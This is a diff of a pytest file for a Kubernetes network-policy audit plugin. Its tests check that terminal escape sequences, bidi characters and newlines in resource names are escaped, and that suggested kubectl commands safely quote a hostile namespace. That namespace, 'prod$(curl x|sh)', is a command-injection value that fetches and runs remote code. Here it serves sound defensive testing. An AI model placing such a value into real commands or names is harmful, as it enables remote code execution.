@@ -149,7 +149,7 @@ def test_audit_keeps_the_high_finding_of_a_namespace_that_erases_its_line(env: d
 
 
 def test_can_reach_explanation(env: dict[str, str], folder: str) -> None:
-    p = run(env, "can-reach", "front/deploy/web", "other/deploy/api", "--port", "8080", "-o", "wide", "--manifests", folder)
+    p = run(env, "can-reach", "front/deploy/web", "other/deploy/api", "--port", "8080", "--manifests", folder)
     assert p.returncode == 1, p.stdout + p.stderr
     assert p.stdout.startswith("DENIED  front/deployment/web -> other/deployment/api on 8080/TCP")
     assert_escaped(p.stdout + p.stderr, f"NP front/{esc(POLICY)}", f"allows to pods with app={esc('api' + OSC52)}")
@@ -244,18 +244,23 @@ def test_warnings_and_errors(env: dict[str, str], tmp_path: Path) -> None:
     p = run(env, "paths", "-A", "--manifests", str(path))
     assert p.returncode == 0, p.stderr
     assert_escaped(p.stdout + p.stderr, esc("p" + OSC52))
-    # an argument that is no name: one error line
+    # an argument that is no name: one error line (a usage error)
     p = run(env, "can-reach", "x" + EVIL_NS, "default/p", "--port", "80", "--manifests", str(path))
-    assert p.returncode == 3
+    assert p.returncode == 2
     assert_escaped(p.stdout + p.stderr)
     assert len([ln for ln in p.stderr.splitlines() if ln.startswith("error: ")]) == 1
-    # a malformed object in a file whose name is hostile too: error and hint, the name's line feed adds no line
+    # an object the API server would reject, in a file whose name is hostile too: one warning line (the name's line
+    # feed adds none), and audit's invalid-manifest finding starts no fake finding
     bad = tmp_path / ("bad" + BIDI + ".yaml")
     bad.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a" + NEWLINE, "labels": {"k": 1}}}))
     p = run(env, "paths", "-A", "--manifests", str(bad))
-    assert p.returncode == 3
+    assert p.returncode == 0, p.stderr
     assert_escaped(p.stderr, esc(str(bad)), esc("a" + NEWLINE))
-    assert len(p.stderr.strip().splitlines()) == 2, p.stderr
+    assert len(p.stderr.strip().splitlines()) == 1, p.stderr
+    p = run(env, "audit", "--manifests", str(bad))
+    assert p.returncode == 1, p.stderr
+    assert_escaped(p.stdout + p.stderr, f"invalid-manifest  pod/default/{esc('a' + NEWLINE)}", esc(str(bad)))
+    assert not any(ln.startswith("HIGH  fake-finding") for ln in p.stdout.splitlines())
 
 
 # --- machine formats keep the exact strings ---------------------------------------------------------------------------
@@ -278,7 +283,7 @@ def test_machine_formats_keep_exact_strings(env: dict[str, str], folder: str, tm
     for p in runs.values():
         # terminal-safe as well: escapes in the format's own syntax, not raw control characters
         assert_escaped(p.stdout)
-    assert {r["from"] for r in docs["paths"]["paths"]} >= {f"{EVIL_NS}/{API}", f"front/{WEB}"}
+    assert {r["from"] for r in docs["paths"]["paths"]} >= {f"{EVIL_NS}/deployment/{API}", f"front/deployment/{WEB}"}
     assert f"namespace/{EVIL_NS}" in {f["object"] for f in docs["audit"]["findings"]}
     assert any(BINDING in s and ROLE in s for s in strings(docs["can-i"]))
     assert any("widgets" + OSC52 in s for s in strings(docs["permissions"]))
@@ -312,28 +317,25 @@ def test_every_suggested_command_quotes_the_namespace(env: dict[str, str], tmp_p
     quoted = shlex.quote(QUOTE_NS)
     assert quoted == "'prod$(curl x|sh)'"
     p = run(env, "audit", "-o", "json", "--manifests", str(path))
-    hints = {
-        f["check"]: f["hint"]
-        for f in json.loads(p.stdout)["findings"]
-        if f["object"].startswith(("namespace/" + QUOTE_NS, QUOTE_NS))
-    }
+    found = [f for f in json.loads(p.stdout)["findings"] if f["object"].startswith(("namespace/" + QUOTE_NS, QUOTE_NS))]
+    hints = {f["check"]: f["hint"] for f in found}
     assert set(hints) == {"no-default-deny-ingress", "no-default-deny-egress", "dns-egress-denied"}, hints
-    for hint in hints.values():
-        assert f"-n {quoted}" in hint and f"-n {QUOTE_NS}" not in hint, hint
+    for f in found:
+        # the command in the hint is the one in details.command, and it parses back to the exact namespace
+        command = f["details"]["command"]
+        assert command in f["hint"] and f"-n {quoted}" in command and f"-n {QUOTE_NS}" not in f["hint"], f
+        words = shlex.split(command)
+        assert words[:3] == ["kubectl", "netsso", "policy"] and words[words.index("-n") + 1] == QUOTE_NS, words
     (path.parent / "only-job.yaml").write_text(
         yaml.safe_dump_all(
             [d for d in manifests() if QUOTE_NS in (d["metadata"]["name"], d["metadata"].get("namespace"))], sort_keys=False
         )
     )
     p = run(env, "audit", "--manifests", str(path.parent / "only-job.yaml"))
-    assert f"start with: kubectl netsso policy default-deny -n {quoted} --allow-dns" in p.stdout
+    assert f"kubectl netsso policy default-deny -n {quoted} --allow-dns" in p.stdout
     # endpoint hints: the name exists in another namespace; no such name here
     p = run(env, "can-reach", "job", "front/deploy/web", "--port", "80", "-n", "front", "--manifests", str(path))
     assert f"use {shlex.quote(QUOTE_NS + '/job')} or -n {quoted}" in p.stderr, p.stderr
-    # every suggested command parses back to the exact namespace
-    for text in hints.values():
-        (arg,) = re.findall(r"kubectl netsso policy default-deny -n ('[^']*'|\S+)", text)
-        assert shlex.split(arg) == [QUOTE_NS]
 
 
 # --- the tool's own colours on a terminal -----------------------------------------------------------------------------
